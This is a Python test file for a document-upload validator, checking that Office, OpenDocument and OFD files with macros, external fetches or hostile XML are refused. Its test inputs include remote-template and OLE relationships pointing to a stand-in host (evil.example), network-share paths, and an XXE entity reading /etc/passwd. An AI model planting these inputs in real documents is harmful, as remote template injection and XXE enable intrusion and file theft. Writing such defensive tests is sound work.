"""An office file is taken when it is what it says, has no macros and fetches nothing."""

from io import BytesIO

import docx
import pytest

from site_core.uploads import office as office_rules
from site_core.uploads.documents import document_problem
from site_core.uploads.problem import Problem
from tests.support.small_files import (
    MAIN_PARTS,
    OFFICE,
    archive,
    compound_file,
    content_types,
    office,
    open_document,
    relationship,
)

WORD = f"{OFFICE}.wordprocessingml.document.main+xml"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELATIONSHIPS = "word/_rels/document.xml.rels"


def problem(content, extension="docx"):
    return document_problem(BytesIO(content), extension, 10_000_000)


def test_file_made_by_another_program_is_taken():
    buffer = BytesIO()
    document = docx.Document()
    document.add_paragraph("会议纪要")
    document.save(buffer)
    assert problem(buffer.getvalue()) is None


# --- Macros -------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "VBAPROJECT.BIN"])
def test_macros_are_refused_wherever_they_lie(name):
    assert problem(office(more={name: b"x"})) == Problem.MACROS


def test_document_with_macros_under_the_name_of_one_without_is_refused():
    assert problem(office(main_type=MACRO_WORD)) == Problem.MACROS


@pytest.mark.parametrize(
    "kind", ["application/vnd.ms-office.vbaProject", "application/vnd.ms-excel.macrosheet+xml"]
)
def test_macros_under_another_name_are_refused(kind):
    types = content_types(("word/document.xml", WORD), ("word/picture.png", kind))
    assert problem(office(more={"[Content_Types].xml": types})) == Problem.MACROS


@pytest.mark.parametrize("name", ["Basic/Standard/Module1.xml", "Scripts/python/a.py"])
def test_macros_of_an_open_document_are_refused(name):
    assert problem(open_document(more={name: "x"}), "odt") == Problem.MACROS


# --- What it is ---------------------------------------------------------------------------------


@pytest.mark.parametrize("extension", MAIN_PARTS)
def test_zip_with_another_content_is_no_office_file(extension):
    assert problem(archive({"a.txt": "x"}), extension) == Problem.CONTENT


def test_office_file_without_its_main_part_is_refused():
    types = {"[Content_Types].xml": content_types(("word/document.xml", WORD))}
    assert problem(archive(types)) == Problem.CONTENT


@pytest.mark.parametrize("entries", [{"OFD.xml": "<html/>"}, {"Doc_0/Document.xml": "<a/>"}])
def test_zip_with_another_content_is_no_ofd(entries):
    assert problem(archive(entries), "ofd") == Problem.CONTENT


@pytest.mark.parametrize("entries", [{"mimetype": "text/plain"}, {"content.xml": "<a/>"}])
def test_zip_with_another_content_is_no_open_document(entries):
    assert problem(archive(entries), "odt") == Problem.CONTENT


def test_office_file_with_a_password_is_said_to_have_one():
    content = compound_file("EncryptionInfo", "EncryptedPackage")
    assert problem(content) == Problem.ENCRYPTED
    assert problem(compound_file("WordDocument")) == Problem.CONTENT


# --- What it fetches ----------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "image", "frame", "subDocument"])
@pytest.mark.parametrize("mode", ["External", "EXTERNAL"])
def test_document_that_fetches_something_is_refused(kind, mode):
    part = relationship(kind, "https://evil.example/a", mode)
    expected = Problem.TEMPLATE if kind == "attachedTemplate" else Problem.EXTERNAL
    assert problem(office(more={RELATIONSHIPS: part})) == expected


@pytest.mark.parametrize("name", ["_rels/.rels", "word/_RELS/settings.xml.RELS"])
def test_relationships_are_read_wherever_they_lie(name):
    part = relationship("attachedTemplate", "https://evil.example/a.dotm", "External")
    assert problem(office(more={name: part})) == Problem.TEMPLATE


@pytest.mark.parametrize(
    "place",
    [
        r"file:///C:\Users\Lenovo\AppData\Roaming\Microsoft\Templates\Normal.dotm",
        "file:///D:/公文/模板.dotx",
        r"C:\Program Files\WPS\a.dot",
    ],
)
def test_template_on_the_disk_of_whoever_opens_it_is_taken(place):
    part = relationship("attachedTemplate", place, "External")
    assert problem(office(more={RELATIONSHIPS: part})) is None


@pytest.mark.parametrize(
    "place",
    [
        r"file:///\\server\share\a.dotm",
        r"\\server\share\a.dotm",
        "//server/share/a.dotm",
        "file://server/share/a.dotm",
        r"file:///C:\\server\a.dotm",
        "http://C:/a.dotm",
        "a.dotm",
        "",
    ],
)
def test_template_on_another_machine_is_refused(place):
    part = relationship("attachedTemplate", place, "External")
    assert problem(office(more={RELATIONSHIPS: part})) == Problem.TEMPLATE


def test_other_things_on_a_disk_are_refused():
    part = relationship("oleObject", r"file:///C:\a.xlsx", "External")
    assert problem(office(more={RELATIONSHIPS: part})) == Problem.EXTERNAL


def test_relationships_are_read_in_every_encoding_of_xml():
    part = relationship("image", "https://evil.example/a", "External").encode("utf-16")
    assert problem(office(more={RELATIONSHIPS: part})) == Problem.EXTERNAL


def test_links_and_pictures_of_its_own_are_taken():
    link = relationship("hyperlink", "https://www.example.org/", "External")
    assert problem(office(more={RELATIONSHIPS: link})) is None
    picture = relationship("image", "media/image1.png")
    assert problem(office(more={RELATIONSHIPS: picture})) is None


# --- Hostile XML --------------------------------------------------------------------------------

ENTITIES = '<!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;">]><a>&d;</a>'
STRANGE = '<?xml version="1.0" encoding="{}"?><a/>'
OUTSIDE = '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'


@pytest.mark.parametrize(
    "part",
    [ENTITIES, OUTSIDE, "", "<a>", "<a></b>", b"\xff\xfe\0"]
    + [STRANGE.format(encoding) for encoding in ("x", "gb18030")],
)
def test_xml_that_is_none_or_asks_for_more_is_refused(part):
    assert problem(office(more={RELATIONSHIPS: part})) == Problem.DAMAGED
    assert problem(archive({"[Content_Types].xml": part})) == Problem.DAMAGED
    assert problem(archive({"OFD.xml": part}), "ofd") == Problem.DAMAGED


def test_deep_xml_is_read():
    part = "<a>" * 100_000 + "</a>" * 100_000
    assert problem(office(more={RELATIONSHIPS: part})) is None


def test_more_xml_than_a_document_needs_is_refused(monkeypatch):
    monkeypatch.setattr(office_rules, "MAX_XML", 2_000)
    part = relationship("image", "media/image1.png")
    assert problem(office(more={RELATIONSHIPS: part})) is None
    many = {f"word/_rels/{number}.rels": part for number in range(10)}
    assert problem(office(more=many)) == Problem.UNPACKS_TOO_LARGE
